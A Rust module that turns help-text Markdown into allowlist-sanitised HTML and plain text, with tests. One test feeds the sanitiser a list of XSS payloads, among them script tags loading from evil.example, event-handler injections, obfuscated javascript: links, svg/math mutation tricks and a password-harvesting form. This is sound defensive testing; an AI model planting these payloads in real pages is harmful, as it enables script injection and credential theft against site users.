//! A help text in its three forms. The HTML goes into portals' pages: a tight list says which elements and links it may
//! hold, whatever the Markdown holds, and everything else is taken out.

use std::collections::{HashMap, HashSet};

use ammonia::UrlRelative;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd};
use serde::Serialize;
use url::Url;

const ELEMENTS: [&str; 25] = [
    "a",
    "blockquote",
    "br",
    "code",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const SCHEMES: [&str; 3] = ["https", "http", "mailto"];

/// A help text.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Body {
    /// With its live values filled in. Not sanitised: whoever renders it must do that.
    pub markdown: String,
    /// Safe to put into a page. Headings begin at `h3`; links are absolute.
    pub html: String,
    /// For reading as it is: list marks, links as `words (URL)`, a line per row of a table.
    pub text: String,
}

impl Body {
    /// Relative links are led to `base`.
    pub fn render(markdown: String, base: &Url) -> Body {
        let html = html(&markdown, base);
        let text = text(&markdown, base);
        Body { markdown: markdown.trim().to_owned(), html, text }
    }
}

fn events(markdown: &str) -> Parser<'_> {
    Parser::new_ext(markdown, Options::ENABLE_TABLES)
}

fn html(markdown: &str, base: &Url) -> String {
    let events = events(markdown).filter_map(|event| match event {
        // A page's own headings come first: its title, then the question or section.
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Some(Event::Start(Tag::Heading { level: level.max(HeadingLevel::H3), id, classes, attrs }))
        }
        Event::End(TagEnd::Heading(level)) => Some(Event::End(TagEnd::Heading(level.max(HeadingLevel::H3)))),
        // What is left of a picture is what it shows, in words.
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => None,
        other => Some(other),
    });
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events);
    ammonia::Builder::empty()
        .tags(HashSet::from(ELEMENTS))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"])), ("ol", HashSet::from(["start"]))]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(SCHEMES))
        .url_relative(UrlRelative::RewriteWithBase(base.clone()))
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true)
        .clean(html.trim())
        .to_string()
}

fn text(markdown: &str, base: &Url) -> String {
    let mut out = PlainText::default();
    for event in events(markdown) {
        match event {
            Event::Start(Tag::Paragraph | Tag::Heading { .. } | Tag::CodeBlock(_) | Tag::Table(_)) => out.block(),
            Event::Start(Tag::List(first)) => {
                if out.lists.is_empty() {
                    out.block();
                }
                out.lists.push(first);
            }
            Event::End(TagEnd::List(_)) => {
                out.lists.pop();
            }
            Event::Start(Tag::Item) => out.item(),
            Event::Start(Tag::TableHead | Tag::TableRow) => {
                out.end_line();
                out.cells = 0;
            }
            Event::Start(Tag::TableCell) => {
                if out.cells > 0 {
                    out.push(" | ");
                }
                out.cells += 1;
            }
            Event::Start(Tag::Link { dest_url, .. }) => {
                let target = base.join(&dest_url).ok().filter(|url| SCHEMES.contains(&url.scheme()));
                out.links.push((out.text.len(), target));
            }
            Event::End(TagEnd::Link) => out.end_link(),
            Event::Text(words) | Event::Code(words) => out.push(&words),
            Event::SoftBreak => out.push(" "),
            Event::HardBreak => {
                out.end_line();
                out.indent(out.lists.len());
            }
            Event::Rule => {
                out.block();
                out.push("---");
            }
            _ => {}
        }
    }
    out.text.trim().to_owned()
}

#[derive(Default)]
struct PlainText {
    text: String,
    /// The lists that are open: their next number, or `None` for bullets.
    lists: Vec<Option<u64>>,
    /// The links that are open: where their words begin, and where they lead.
    links: Vec<(usize, Option<Url>)>,
    /// How many cells the row has so far.
    cells: usize,
    /// Behind a list mark, where the item's first paragraph goes on.
    after_mark: bool,
}

impl PlainText {
    fn push(&mut self, words: &str) {
        self.text.push_str(words);
        self.after_mark = false;
    }

    fn end_line(&mut self) {
        if !self.text.is_empty() && !self.text.ends_with('\n') {
            self.text.push('\n');
        }
    }

    fn indent(&mut self, depth: usize) {
        self.text.push_str(&"   ".repeat(depth));
    }

    /// Begins a paragraph or the like: after a blank line, or indented in a list.
    fn block(&mut self) {
        if self.after_mark {
            return;
        }
        self.end_line();
        match self.lists.len() {
            0 if !self.text.is_empty() => self.text.push('\n'),
            depth => self.indent(depth),
        }
    }

    fn item(&mut self) {
        self.end_line();
        self.indent(self.lists.len().saturating_sub(1));
        match self.lists.last_mut() {
            Some(Some(number)) => {
                let mark = format!("{number}. ");
                *number += 1;
                self.push(&mark);
            }
            _ => self.push("- "),
        }
        self.after_mark = true;
    }

    fn end_link(&mut self) {
        let Some((start, Some(target))) = self.links.pop() else { return };
        let shown = self.text.get(start..).unwrap_or_default();
        if target.as_str() != shown && target.as_str().strip_prefix("mailto:") != Some(shown) {
            self.push(&format!(" ({target})"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn body(markdown: &str) -> Body {
        Body::render(markdown.to_owned(), &Url::parse("https://id.example.jp/").expect("a URL"))
    }

    #[test]
    fn hostile_markdown_comes_out_harmless() {
        for hostile in [
            "<script>alert(1)</script>",
            "<SCRIPT src=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/track.png)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#x0A;script:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:msgbox)",
            "<javascript:alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
            "<style>body{display:none}</style>",
            "<p style=\"position:fixed\" onclick=\"alert(1)\" class=\"x\" id=\"y\">x</p>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<form action=\"https://evil.example\"><input name=password><button>x</button></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=//evil.example>",
            "<object data=x></object><embed src=x>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "| a |\n|:-:|\n| <b onmouseover=alert(1)>x</b> |",
            "```\"onload=alert(1)\nx\n```",
            "</details></div></main><h1>x</h1>",
        ] {
            let html = body(hostile).html;
            let tree = scraper::Html::parse_fragment(&html);
            for element in tree.root_element().descendent_elements().skip(1) {
                let name = element.value().name();
                assert!(ELEMENTS.contains(&name), "{hostile} became {html}");
                for (attribute, value) in element.value().attrs() {
                    let allowed = match attribute {
                        "href" => ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                        "rel" => value == "noopener noreferrer",
                        "start" => value.parse::<u32>().is_ok(),
                        _ => false,
                    };
                    assert!(allowed, "{hostile} became {html}");
                }
            }
        }
    }

    #[test]
    fn no_form_keeps_a_link_that_runs_script() {
        let body = body("[x](javascript:alert(1)) and [y](data:text/html,z)");
        assert!(!body.html.contains("href"), "{}", body.html);
        assert_eq!(body.text, "x and y");
    }

    #[test]
    fn relative_links_lead_to_the_provider_and_all_links_are_severed_from_the_page() {
        let body = body("[FAQ](/help/faq) <https://portal.example.jp/>");
        assert_eq!(
            body.html,
            "<p><a href=\"https://id.example.jp/help/faq\" rel=\"noopener noreferrer\">FAQ</a> \
             <a href=\"https://portal.example.jp/\" rel=\"noopener noreferrer\">https://portal.example.jp/</a></p>"
        );
        assert_eq!(body.text, "FAQ (https://id.example.jp/help/faq) https://portal.example.jp/");
    }

    #[test]
    fn headings_stay_below_those_of_the_page() {
        assert_eq!(body("# One\n\n#### Four").html, "<h3>One</h3>\n<h4>Four</h4>");
    }

    #[test]
    fn plain_text_shows_lists_tables_and_breaks() {
        let markdown = "Intro\ngoes on.\n\n1. one\n2. two\n   - inner\n   - more\n\n   still two\n\n### Table\n\n\
                        | A | B |\n|---|---|\n| `1` | **2** |\n| 3 | 4 |\n\nEnd  \nline.";
        assert_eq!(
            body(markdown).text,
            "Intro goes on.\n\n1. one\n2. two\n   - inner\n   - more\n   still two\n\nTable\n\nA | B\n1 | 2\n3 | 4\n\nEnd\nline."
        );
    }
}
